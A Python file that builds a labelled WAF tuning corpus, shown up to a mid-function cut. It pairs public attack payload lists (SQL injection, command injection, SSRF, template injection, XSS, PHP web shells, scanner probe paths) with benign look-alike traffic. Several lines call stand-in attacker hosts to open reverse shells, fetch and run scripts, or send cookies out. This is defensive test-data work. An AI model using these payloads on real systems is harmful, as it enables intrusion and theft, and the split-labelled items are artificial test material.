# ruff: noqa: E501 - payload and sample lists read best one line each
"""Sixth batch of the WAF tuning corpus (round 5, issue 15): more sensitivity, same twins.

Written from public knowledge only -- PayloadsAllTheThings (SQL injection per
database, command injection, SSRF bypass lists, SSTI per engine), the OWASP CRS
PL1/PL2 rule logic and its scanner data files, sqlmap's tamper scripts,
commix's techniques and nuclei's probe paths -- and never from a held-out set.

Round 5 raises detection where round 4's false positives were low, so every
attack family comes with the benign traffic nearest to it:

* SQL injection per database (MSSQL ``convert(int,@@version)``, ``@@`` server
  variables, Oracle ``utl_inaddr``, PostgreSQL casts) -- against diff hunks
  (``@@ -1,4 +1,5 @@``), e-mail addresses and review text naming ``CONVERT``;
* command injection as commix spells it (``cat$u``, ``;$u cat``,
  ``${PATH:0:1}``) and with more commands -- against tickets quoting
  ``kill $(lsof -t -i:3000)`` and ``export PATH=${PATH}:/opt/bin``;
* SSRF in URL spellings WHATWG parsers accept (``http:/127.0.0.1``,
  ``http:\\\\127.0.0.1``, ``http:@127.0.0.1``) and metadata paths behind any
  host -- against malformed public URLs and docs that mention the paths;
* SSTI probes with quoted operands (``${7*'7'}``, ``<% 7*7 %>``) -- against
  ``${price}`` placeholders and ``<% if user %>`` statements;
* payloads sent base64-encoded as a whole field (handlers decode ``data``
  fields) -- against random tokens, JWT parts and base64 of ordinary text;
* DOM sinks (``document.cookie``, ``window['alert']``) as values -- against
  review comments quoting them in backticks;
* scanners by nuclei-style product and CVE probe paths and query strings
  (``XDEBUG_SESSION_START``, Drupal's ``element_parents``, GraphQL
  ``__schema``) -- against ordinary API paths with similar words.

A seeded 30% is marked ``"split": "tune-test"``, as in batches 4 and 5.  Its
own RNG keeps the earlier batches byte-identical.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
from urllib.parse import quote

from batch4 import _place, _ua

rng6 = random.Random(5151)
TEST_SHARE = 0.30

SQLI6 = [
    "1' AnD 1=1 AnD 'x'='x",
    "' OR ''='",
    '" or ""="',
    "' or 'x' like 'x",
    "%' and 1=1 and '%'='",
    "1' and '1'='1",
    "1' and substr(version(),1,1)='5",
    "') or ('a'='a",
    '")) or (("x"="x',
    "' or 1 in (select @@version)--",
    "' having 1=1--",
    "' group by id having 1=1--",
    "'=0--+",
    "' or 1#",
    "1' xor sleep(5) xor '1",
    '"-sleep(5)-"',
    "'+(select 1)+'",
    "' + convert(int,@@version) + '",
    "1 and (select 1)=1",
    "1 or 1 in (1)",
    "1) or (1=1",
    "1 || 1=1",
    "-1 union select 1,2,3",
    "-1' union select 1,2,3-- -",
    "1'/**/UnIoN/**/SeLeCt/**/1,2--",
    "1%0bunion%0bselect%0b1",
    "'||(select version())||'",
    "'||utl_inaddr.get_host_name((select user from dual))||'",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "admin'/*",
    "admin' #",
    "' and 1=convert(int,(select top 1 name from sysobjects))--",
    "';exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "1;exec xp_cmdshell('whoami')",
    "' and (select count(*) from users)>0 and '1'='1",
    "1 and (select count(*) from information_schema.tables)>0",
    "' or exists(select * from users)--",
    "1' and ascii(substring((select password from users limit 1),1,1))>64-- -",
    "' union all select null,null,null--",
    "1 union all select null,concat(username,0x3a,password) from users",
    "' or true--",
    "'or'1'='1",
    "'or''='",
    "1'or'1'='1",
    "' or 'a'='a'--",
    "x' or 1=1 or 'x'='y",
    "1 and 1=1 -- -",
    "1' and 1=2 union select 1,table_name from information_schema.tables--",
    "1 and updatexml(1,concat(0x7e,user()),1)",
    "' and 1=cast((select version()) as int)--",
    "1;select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--",
    "1 and 1=(select 1 from dual where 1=1)",
    "' or 1=1 limit 1 -- -",
    "' and json_extract('{\"a\":1}','$.a')=1--",
    "' or sleep(5)='",
    "1' or '1'='1' /*",
    "1 AND 'a'='a'",
    "1)) or 1=1--",
    "') or 1=1--",
    '" or 1=1--',
    "') union select user(),2--",
    "1 regexp if(1=1,1,0x28)",
    "(case when 1=1 then 1 else 1*(select 1 from information_schema.tables) end)",
    "1 and mid(version(),1,1)=5",
    "' and (select substring(@@version,1,1))='5'--",
    "-1 or 1=1",
    "0 or 1=1",
    "1 oR 1=1",
    "1 || '1'='1'",
    "1' || '1'='1",
    "1 and ord(1)",
    "' and 'a'<'b",
    "1' and 1>0 and '1'='1",
    "1 and 3=3",
    "id=1 and 1=1",
    "1' order by 1--+",
    "' limit 1,1--",
    "1' limit 0,1 into @a--",
    "' into outfile '/var/www/html/x.php'--",
    "1;shutdown--",
    "'; truncate table logs--",
    "';declare @q varchar(99);set @q='\\\\x.oast.pro\\a';exec master.dbo.xp_dirtree @q;--",
    "1 and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "1' and 1=1#",
    "1' and sleep(5) and '1'='1",
    "1 and sleep(5)",
    "1' waitfor delay '0:0:5'--",
    "1)) and ((1=1",
    "admin' and '1'='1",
    "admin') or ('1'='1'--",
    "' or 1=1 or ''='",
    "' or '1'='1' limit 1;#",
    "1 union(select(1),(2))",
    "1'union(select(user()))#",
    "-1 union select 1,group_concat(table_name) from information_schema.tables where table_schema=database()",
    "1 and 1=0 union select load_file('/etc/passwd')",
    "' or substring(user(),1,1)='r",
    "1 or (select ascii(substr(user(),1,1)))>0",
    "1' and (select 1 from users limit 1)='1",
    "1 and exists(select * from users where username='admin')",
    "1 and (select count(*) from users) > 0",
    "' and 1 in (select min(name) from sysobjects where xtype='U')--",
    "1; select * from users",
    "1'; select pg_sleep(5)--",
    "1' and 'a'='a",
    "a' or 'b'='b",
    "1 and user()='root'",
    "1 and database() like 'a%'",
    "' || (select '' from dual) || '",
    "'||(select case when 1=1 then to_char(1/0) else '' end from dual)||'",
    "1 and 1=(select 1 from pg_sleep(5))",
    "username=admin'--",
    "admin'-- -",
    "admin' or 1=1-- -",
    "' or '1'='1",
    "1' or '1'='1'--",
    "1 or 1=1--",
    "1' and extractvalue(1,concat(0x7e,(select version())))--",
    "1 and row(1,1)>(select count(*),concat(version(),0x3a,floor(rand()*2))x from information_schema.tables group by x)",
]
CMDI6 = [
    ";id",
    "|id",
    "||id",
    "&id",
    "&&id",
    ";id;",
    "%0aid",
    "127.0.0.1%0aid",
    "127.0.0.1;ls -la",
    "127.0.0.1|whoami",
    "127.0.0.1 && cat /etc/hosts",
    "x||whoami",
    "$(id)",
    "`id`",
    ";sleep 5",
    ";sleep${IFS}5",
    "& ping -n 5 127.0.0.1 &",
    "|| ping -c 5 127.0.0.1",
    ";{cat,/etc/passwd}",
    "cat</etc/passwd",
    ";cat${IFS}/etc/passwd",
    ";echo${IFS}aWQ=|base64${IFS}-d|sh",
    "a;cat$u /etc$u/passwd",
    ";/usr/bin/id",
    "$(sleep 5)",
    ";ping${IFS}-c${IFS}5${IFS}attacker.com",
    "; nslookup x.attacker.com",
    "$(nslookup $(whoami).attacker.com)",
    ";curl http://evil.example/x.sh -o /tmp/x",
    "& dir c:\\",
    "| type C:\\windows\\win.ini",
    "; uname -a #",
    "' ; id #",
    '"; id; "',
    ";$(printf 'id')",
    ";echo $((1+1))",
    "; rev <<< 'di'|sh",
    ";tac /etc/passwd",
    "${PATH:0:1}bin${PATH:0:1}sh",
    "`sleep 5`",
    "a%0Dping -c 5 127.0.0.1",
    "%26%26 whoami",
    "%7Cwhoami",
    ";w",
    "| net user",
    "&ipconfig /all",
    "; ls /",
    ";env",
    "| id #",
    "test.txt; id",
    "file.jpg|id",
    "x;wget http://evil.example/s -O-|sh",
    "x && curl evil.example|bash",
    ";/bin/busybox telnetd -l /bin/sh -p 9999",
    ";bash -c 'id'",
    ";sh -c id",
    "x; python -c 'import os;os.system(\"id\")'",
    "|perl -e 'print `id`'",
    ";php -r 'system(\"id\");'",
    "; ruby -e 'exec \"id\"'",
    "x;cat /etc/shadow",
    ";head -n1 /etc/passwd",
    "&& type %windir%\\win.ini",
    "| whoami /priv",
    "& net localgroup administrators",
    ";ls${IFS}-la",
    ";l\\s -la",
    ";who'am'i",
    ";$u cat /etc/passwd",
    "|/bin/ls -al",
    ";id>/tmp/x",
    ";echo hello > /var/www/html/x.txt",
    "$(echo aWQ= | base64 -d)",
    ";eval $(echo aWQ=|base64 -d)",
    ";${HOME:0:1}etc${HOME:0:1}passwd",
    "x$(sleep${IFS}5)",
    ";ping -c1 10.0.0.1",
    "&timeout /t 5",
    "|timeout 5",
    "; killall -9 node",
    ";chmod +x /tmp/x;/tmp/x",
    "; sudo -l",
    "$(curl -s evil.example/x)",
    ";{ls,-la,/}",
    ";cat /proc/self/environ",
    "|| sleep 10 ||",
    "& sleep 10 &",
    "'$(id)'",
    '"`id`"',
    ";system('id')",
    "| cat /etc/passwd",
    "%0a%0dcat /etc/passwd",
    "test%0awhoami",
    "`whoami`.attacker.com",
    "$(whoami).attacker.com",
    "& nslookup attacker.com &",
    "|nc attacker.com 4444 -e /bin/sh",
    ";bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    '& powershell -c "Get-Process"',
    "& cmd /c dir",
    "|| dir",
    "| dir C:\\",
    "; ls -R /",
    ";cat /etc/issue",
    "127.0.0.1 | ls",
    "google.com; ls",
    'x";ls;"',
    "x';ls;'",
    ";ls #",
    "; echo vulnerable",
    "&& echo pwned",
    "| echo $PATH",
    ";uname",
    ";id;#",
    "127.0.0.1&&id",
    "127.0.0.1|id",
    "1;id",
    "$(cat /etc/passwd)",
    "x `uname -a`",
    ";cat /etc/pass*",
    ";/bin/cat /etc/passwd",
    ";ping -c 10 127.0.0.1",
    ";sleep 10;",
    "'; sleep 10; '",
    '";sleep 10;"',
    "|sleep 10",
    "$(sleep 10)",
    "`sleep 10`",
    "%3Bsleep%205",
    ";ping%20-c%2010%20127.0.0.1",
    "; curl attacker.com",
    "| wget attacker.com",
    "; nc -zv 10.0.0.1 22",
    ";ps -ef",
    "; cat ~/.ssh/id_rsa",
    '; find / -name "*.conf"',
    "; whoami 2>&1",
    "; id | nc attacker.com 80",
    ';echo$IFS"aWQ="|base64$IFS-d|bash',
    "() { :;}; echo; /usr/bin/id",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { _; } >_[$($())] { id; }",
    "a|tee /tmp/x",
    ";echo x|tee /var/www/html/s.php",
]
SSRF6 = [
    "http://127.0.0.1:80",
    "http://[::]:80/",
    "http://0/",
    "http://0000::1",
    "http://127.127.127.127",
    "http://[0:0:0:0:0:ffff:127.0.0.1]",
    "http://①②⑦.⓪.⓪.①",
    "http://evil.com@127.0.0.1",
    "http://127.0.0.1#@evil.com",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://instance-data/latest/meta-data",
    "http://metadata/computeMetadata/v1/",
    "http://0x7f000001/",
    "http://017700000001",
    "http://127.0.0.1.nip.io",
    "http://localtest.me",
    "http://2130706433/",
    "http://[::ffff:7f00:1]",
    "http://0177.1",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://127.0.0.1:11211/stat",
    "http://127.1:22",
    "http://kubernetes.default.svc/api/v1/namespaces",
    "http://192.168.0.1/admin",
    "http://100.100.100.200/latest/meta-data",
    "http://169.254.170.2/v2/credentials",
    "http://192.0.0.192/latest/",
    "http://127.0.0.1:2375/containers/json",
    "http://localhost:8500/v1/agent/self",
    "http://[::1]/",
    "http:@127.0.0.1",
    "http:\\\\127.0.0.1",
    "http:/127.0.0.1",
    "//127.0.0.1/",
    "http://127.0.0.1%09/",
    "http://0.0.0.0:8080",
    "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
    "http://%31%32%37.0.0.1",
    "http://127%2e0%2e0%2e1",
    "jar:http://127.0.0.1!/",
    "netdoc:///etc/passwd",
    "http://[::ffff:a9fe:a9fe]",
    "http://0xa9fea9fe",
    "http://2852039166",
    "http://169.254.169.254.nip.io/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://[0:0:0:0:0:0:0:1]",
    "http://127.0.0.1./",
    "http://LOCALHOST",
    "http://localhost./",
    "http://127.0.0.1:6379",
    "http://10.0.0.1/",
    "http://172.17.0.1:2375/",
    "http://host.docker.internal/",
    "http://gateway.docker.internal:8080",
    "http://kubernetes.default",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[::ffff:169.254.169.254]",
    "http://0251.0376.0251.0376",
    "http://169.254.43518",
    "http://0x7f.0x0.0x0.0x1",
    "http://127.000.000.001",
    "http://localhost:22",
    "127.0.0.1:6379",
    "localhost",
    "169.254.169.254",
    "[::1]",
    "http://127.0.0.1/admin",
    "http://10.10.10.10:8080/actuator/env",
    "ftp://127.0.0.1/",
    "sftp://10.0.0.5:22/",
    "ldap://127.0.0.1:389/",
    "tftp://127.0.0.1/x",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.azure.internal",
    "http://127.0.0.1:8080/manager/html",
    "https://attacker.example/redirect?to=http://169.254.169.254/",
    "http://burpcollaborator.net.127.0.0.1.nip.io",
    "http://spoofed.127.0.0.1.sslip.io",
    "http://0x7f.1",
    "http://[0:0:0:0:0:ffff:7f00:0001]",
    "http://[::127.0.0.1]",
    "http://127.0.0.1:80\\@evil.com/",
    "http://foo@127.0.0.1:80@evil.com/",
    "http://[fe80::1%25en0]/",
    "http://0.0.0.0/",
]
SSTI6 = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request|attr('application') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{''.__class__}}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__['os'].popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{7*'7'}}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    '${"freemarker.template.utility.Execute"?new()("id")}',
    '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }',
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation()}",
    '#set($e="e")$e.getClass().forName("java.lang.Runtime")',
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${T(java.lang.System).getenv()}",
    '${self.module.cache.util.os.system("id")}',
    "<%import os%>${os.system('id')}",
    "{% import os %}{{os.system('id')}}",
    "<%= `id` %>",
    "<%= File.open('/etc/passwd').read %>",
    "#{ `id` }",
    "{php}echo `id`;{/php}",
    "{$smarty.version}",
    '{{#with "s" as |string|}}{{/with}}',
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "@{7*7}",
    "${{7*7}}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "{{=7*7}}",
    "${{<%[%'\"}}%\\.",
    "{{this.constructor.constructor('return process')()}}",
    '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{request['__cl'+'ass__']}}",
    "{{ ()|attr(request.args.a) }}",
    "{{ config.items() }}",
    "{{config}}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ x.__init__.__globals__ }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ dict.__base__.__subclasses__() }}",
    "${7*'7'}",
    "{{ 7 * 7 }}",
    "{{ 1337*1337 }}",
    "{{ 9*9 }}",
    "${9*9}",
    "{{ '7'*7 }}",
    '${"".getClass().forName("java.lang.Runtime")}',
    '${@java.lang.Runtime@getRuntime().exec("id")}',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    '${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}',
    "{{ request.environ }}",
    "{{ g.pop.__globals__ }}",
    "{{ session.__class__ }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    '<%= system("id") %>',
    "<%= IO.popen('id').readlines() %>",
    "{{ app.__init__.__globals__ }}",
    "{% set x = cycler.__init__.__globals__ %}",
    "{{ ().__class__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    '{{ "foo".__class__.__base__ }}',
    '#set($x=$class.forName("java.lang.Runtime"))',
    "${{ 7*7 }}",
    "{{ 7*7 }}{{ 8*8 }}",
    "{{ 3+4 }}",
    "<% 7*7 %>",
    "{{{7*7}}}",
    "${applicationScope}",
    "${pageContext.request.serverName}",
    "${sessionScope}",
    "#{facesContext.externalContext}",
    "{{dump(app)}}",
    "{{ handler.settings }}",
    "{{ messages.storages.0.signer.key }}",
    "${''.join(chr(x) for x in [105,100])}",
]
XSS6 = [
    "document.cookie",
    "alert(document.domain)",
    "window['alert'](1)",
    "top['al'+'ert'](1)",
    "self[atob('YWxlcnQ=')](document.cookie)",
    "eval(atob('YWxlcnQoMSk='))",
    "document.write('<img src=x onerror=alert(1)>')",
    "prompt`1`",
    "confirm(document.cookie)",
    "parent['ale'+'rt'](1)",
    "String.fromCharCode(88,83,83)",
    "javascript:fetch('//x.example/'+document.cookie)",
    "x=document.cookie;new Image().src='//x.example/?c='+x",
    "location='//x.example/?c='+document.cookie",
    "eval(location.hash.slice(1))",
    "document.location='//evil.example'",
    "this['alert'](1)",
    'window["document"]["cookie"]',
    "eval(name)",
    "setTimeout('alert(1)')",
]
CODE6 = [
    "<?php system($_GET['c']); ?>",
    "<?= shell_exec($_REQUEST['x']) ?>",
    "<?php eval(base64_decode($_POST['p'])); ?>",
    "<?php echo file_put_contents('s.php', $_GET['d']); ?>",
]
ENCODED6 = [
    ("sqli", "' or 1=1--"),
    ("sqli", "1 union select username,password from users--"),
    ("command_injection", ";cat /etc/passwd"),
    ("command_injection", "$(id)"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("path_traversal", "../../../../etc/passwd"),
    ("ssti", "{{7*7}}"),
    ("ssti", "{{config.__class__.__init__.__globals__}}"),
    ("jndi", "${jndi:ldap://x.example/a}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("command_injection", "| whoami"),
    ("sqli", "' and sleep(5)--"),
    ("ssrf", "file:///etc/passwd"),
    ("command_injection", "; curl http://x.example/s | sh"),
    ("sqli", "admin'--"),
    ("xss", "<svg onload=alert(1)>"),
    ("sqli", "1;select pg_sleep(5)"),
    ("command_injection", "`id`"),
    ("path_traversal", "..%2f..%2f..%2fetc%2fpasswd"),
]
SCANNER_UA6 = [
    "DotDotPwn v3.0.2",
    "Mozilla/5.0 (compatible; Nsauditor/3.0)",
    "N-Stealth",
    "sql power injector",
    "teh forest lobster",
    "this is an exploit",
    "struts-pwn",
    "Grendel-Scan/1.0",
    "Mysqloit",
    "Webvulnscan",
    "Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2)",
    "Mozilla/5.0 zgrab/0.x",
    "ALittle Client",
    "Mozilla/5.0 (compatible; NetSystemsResearch studies the availability of various services across the internet)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Nessus",
    "Mozilla/5.0 (l9explore/1.2.2)",
    "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
]
SCANNER_QUERIES6 = [
    "XDEBUG_SESSION_START=phpstorm",
    "element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
    "s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1",
    "query=%7B__schema%7Btypes%7Bname%7D%7D%7D",
    "query=query%20%7B__type(name:%22User%22)%7Bfields%7Bname%7D%7D%7D",
]
SCANNER_PATHS6 = [
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/owa/auth/logon.aspx",
    "/global-protect/login.esp",
    "/dana-na/auth/url_default/welcome.cgi",
    "/sslvpn/Login/Login",
    "/ReportServer",
    "/manager/html",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/Autodiscover/Autodiscover.xml",
    "/druid/index.html",
    "/nacos/v1/auth/users",
    "/.DS_Store",
    "/wp-json/wp/v2/users",
    "/.vscode/sftp.json",
    "/config/database.yml",
    "/storage/logs/laravel.log",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/server.key",
    "/id_rsa",
    "/backup.zip",
    "/dump.sql",
    "/debug.log",
    "/error_log",
    "/Telerik.Web.UI.WebResource.axd",
    "/invoker/JMXInvokerServlet",
    "/index.action",
    "/cgi-bin/luci",
    "/ui/vropspluginui/rest/services/uploadova",
    "/mifs/aad/api/v2/",
    "/Orion/Login.aspx",
    "/+CSCOE+/logon.html",
    "/catalog-portal/ui/oauth/verify",
    "/vpns/portal/scripts/newbm.pl",
    "/tmui/login.jsp",
    "/confluence/pages/doenterpagevariables.action",
    "/secure/ContactAdministrators!default.jspa",
    "/webtools/control/main",
    "/ecp/default.flt",
    "/aspnet_client/",
    "/sap/bc/gui/sap/its/webgui",
    "/.git/HEAD",
    "/.svn/entries",
    "/api/jsonws/invoke",
    "/cgi-bin/test-cgi",
    "/etc/passwd",
    "/proc/self/environ",
    "/admin/config.php",
    "/phpMyAdmin/",
    "/.env.production",
    "/.aws/credentials",
    "/wp-admin/admin-ajax.php",
    "/xmlrpc.php",
    "/actuator/env",
    "/jolokia/list",
    "/manager/status",
    "/host-manager/html",
    "/axis2/axis2-admin/",
    "/nifi-api/flow/current-user",
    "/api/v2/cmdb/system/admin",
    "/mgmt/shared/authn/login",
    "/cgi-bin/config.exp",
    "/HNAP1",
    "/language/Swedish${IFS}&&echo${IFS}1",
    "/ws/v1/cluster/apps/new-application",
    "/hudson",
    "/.htaccess",
    "/web.config",
    "/WEB-INF/web.xml",
    "/php.ini",
    "/info.php",
    "/test.php",
    "/phpinfo",
    "/__debug__/",
    "/debug/pprof/",
    "/elmah.axd",
    "/_config.yml",
    "/.travis.yml",
    "/.gitlab-ci.yml",
    "/Dockerfile",
    "/docker-compose.yml",
    "/.npmrc",
    "/package.json",
    "/composer.json",
    "/sites/default/settings.php",
    "/_ignition/execute-solution",
    "/s/123/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties",
]

# benign twins
REVIEW6 = [
    "Hunk `@@ -12,7 +12,9 @@ def load(self):` drops the retry, was that intended?",
    "@@ -1,4 +1,5 @@\n import os\n+import sys\n",
    "Use CONVERT(INT, price) in the report query instead of CAST, the old driver rounds otherwise.",
    "We log @@ERROR after each statement in the stored procedure; see the runbook.",
    "ping me at ana@example.com or @ops-team on chat",
    "The SELECT in get_orders() now filters by tenant_id, nice catch.",
    "Set the session variable with SET @row := 0 before the ranking query.",
    "This reads `document.cookie` to restore the session, is that safe with HttpOnly set?",
    "Replace window['config'] lookups with the typed settings object, please.",
    "Why do we call `eval(name)` here? Please remove it before merging.",
    "The layout still uses <?php echo $title; ?> in the header partial.",
    "Move the ${user.name} placeholder into the JSP fragment.",
    "We should tee the output into build.log, not overwrite it.",
    "{{ messages }} renders the flash list in base.html",
]
SHELL6 = [
    "Workaround: kill $(lsof -t -i:3000) then restart the dev server",
    "export PATH=${PATH}:/opt/tools/bin in your .bashrc fixed it",
    "Costs 5$ a month; A$AP tickets are extra",
    "echo ${HOME} prints /home/ana on the build box",
    "Run `killall -HUP nginx` only from the bastion, not from CI.",
    "Use ${VAR:-default} for optional settings in the compose file.",
    "Price: US$ 12; shipping: $ 4",
    "the job failed at step 3 | retried at 10:42 | green now",
    "Team: ops & infra; on call: Sam",
    "$HOME/.config/app is where settings live",
]
TEMPLATE6 = [
    "Hello ${firstName}, your total is ${total}.",
    "<% if user.admin %>Admin tools<% end %>",
    "Invoice ${invoice.id}: ${amount} due on ${dueDate}",
    "{{ total }} items, {{ shipping }} shipping",
    "Use ${price * quantity} in the line item template",
    "<%= user.name %> joined <%= team.name %>",
    "Dear {{ name }}, your code is {{ code }}.",
    "${ count } new messages",
]
DOCS6 = [
    "On EC2 the SDK reads credentials from the instance metadata service (see the AWS docs on `/latest/meta-data/`).",
    "GCP workloads get tokens from the metadata server; our code never calls it directly.",
    "## Cookies\\nWe never read `document.cookie` in the app; the session cookie is HttpOnly.",
    "The payload field is base64: decode it with `base64 -d` to inspect it.",
    "GraphQL: we disabled introspection in production; use the schema file in the repo instead.",
    "XDebug is configured in the dev image only (see docker/dev.ini).",
    "Drupal migration notes: element names changed in the account form.",
    "Legacy URLs like http:/example.com/a come from a bad template; we fix them on import.",
]
URLS6 = [
    "http:/example.com/docs",
    "https:\\\\\\\\example.org\\\\path",
    "http://example.com/latest/news",
    "https://api.example.com/v1/metadata/instance-types",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "http:@example.com",
    "https://example.com/computemetadata-guide",
    "https://cdn.example.net/assets/app.js",
    "ftp://ftp.example.org/pub/file.txt",
    "http://10.example.com/",
]
PATHS6 = [
    "/api/v2/remote/sessions",
    "/api/v2/certs/ca.pem",
    "/api/v2/manager/reports",
    "/api/v2/keys/rotate",
    "/docs/schema",
    "/api/v2/sessions/start",
    "/api/v2/status",
    "/api/v2/vpn/profiles",
    "/api/v2/users/me/preferences",
    "/api/v2/sap/orders",
    "/api/v2/debug-settings",
    "/static/js/app.3f2a.js",
    "/api/v2/reports/2026-12.csv",
    "/api/v2/keys",
    "/api/v2/cluster/nodes",
    "/api/v2/scripts/list",
]
QUERIES6 = [
    "q=graphql+schema+design",
    "debug=1&verbose=true",
    "session=start&lang=en",
    "element=parent&page=2",
    "query=%7Buser(id:5)%7Bname%7D%7D",
    "fields=name,type&schema=public",
    "think=app&invoke=later",
    "xdebug=0",
]
PLAIN_TEXTS6 = [
    "hello world, this is a note",
    '{"user":"bob","exp":1700000000}',
    "order 1234 shipped to Lisbon",
    "name=Ana&city=Porto",
    "The quick brown fox jumps",
    '{"theme":"dark","lang":"pt"}',
]


def split_of(item_id: str) -> str:
    digest = hashlib.sha256(f"batch6:{item_id}".encode()).digest()
    return "tune-test" if digest[0] < int(256 * TEST_SHARE) else "tune"


def _b64(text: str, i: int) -> str:
    raw = text.encode()
    return (base64.urlsafe_b64encode(raw) if i % 3 == 2 else base64.b64encode(raw)).decode()


def _encoded_request(payload: str, i: int, r: random.Random) -> dict:
    """The payload base64-encoded as a whole field: JSON, query or cookie."""
    value = _b64(payload, i)
    headers = {"user-agent": _ua(r), "accept": "application/json"}
    where = i % 3
    if where == 0:
        headers["content-type"] = "application/json"
        field = r.choice(["data", "payload", "state", "filter"])
        return {
            "method": "POST",
            "path": "/api/v2/import",
            "query": "",
            "headers": headers,
            "body": json.dumps({field: value, "v": 2}),
        }
    if where == 1:
        return {
            "method": "GET",
            "path": "/api/v2/search",
            "query": f"f={quote(value, safe='')}",
            "headers": headers,
            "body": None,
        }
    headers["cookie"] = f"sid=9c1f; prefs={value}"
    return {"method": "GET", "path": "/api/v2/me", "query": "", "headers": headers, "body": None}


def _scanner_request(i: int, r: random.Random) -> tuple[dict, str]:
    headers = {"user-agent": _ua(r), "accept": "*/*"}
    if i < len(SCANNER_UA6):
        headers["user-agent"] = SCANNER_UA6[i]
        return {
            "method": "GET",
            "path": r.choice(["/", "/api/v2/items", "/login"]),
            "query": "",
            "headers": headers,
            "body": None,
        }, "ua"
    i -= len(SCANNER_UA6)
    if i < len(SCANNER_QUERIES6):
        path = r.choice(["/", "/api/v2/items", "/graphql", "/user/register"])
        return {
            "method": "GET",
            "path": path,
            "query": SCANNER_QUERIES6[i],
            "headers": headers,
            "body": None,
        }, "query"
    i -= len(SCANNER_QUERIES6)
    path = SCANNER_PATHS6[i]
    return {
        "method": r.choice(["GET", "GET", "HEAD", "POST"]),
        "path": path,
        "query": "",
        "headers": headers,
        "body": None,
    }, "path"


def attacks6() -> list[dict]:
    r = rng6
    out: list[dict] = []
    for category, payloads in (
        ("sqli", SQLI6),
        ("command_injection", CMDI6),
        ("ssrf", SSRF6),
        ("ssti", SSTI6),
        ("xss", XSS6),
        ("code_injection", CODE6),
    ):
        for i, payload in enumerate(payloads):
            item_id = f"{category}-f{i:03d}"
            req = _place(payload, i + 5, r, header_ok="\n" not in payload and "\r" not in payload)
            out.append(
                {
                    "id": item_id,
                    "category": category,
                    "source": "tuning: sixth batch (public payload families)",
                    "split": split_of(item_id),
                    "request": req,
                }
            )
    for i, (category, payload) in enumerate(ENCODED6):
        item_id = f"{category}-fb64-{i:03d}"
        out.append(
            {
                "id": item_id,
                "category": category,
                "source": "tuning: sixth batch (base64-encoded field)",
                "split": split_of(item_id),
                "request": _encoded_request(payload, i, r),
            }
        )
    for i in range(len(SCANNER_UA6) + len(SCANNER_QUERIES6) + len(SCANNER_PATHS6)):
        req, how = _scanner_request(i, r)
        item_id = f"scanner-f{how}{i:03d}"
        out.append(
            {
                "id": item_id,
                "category": "scanner",
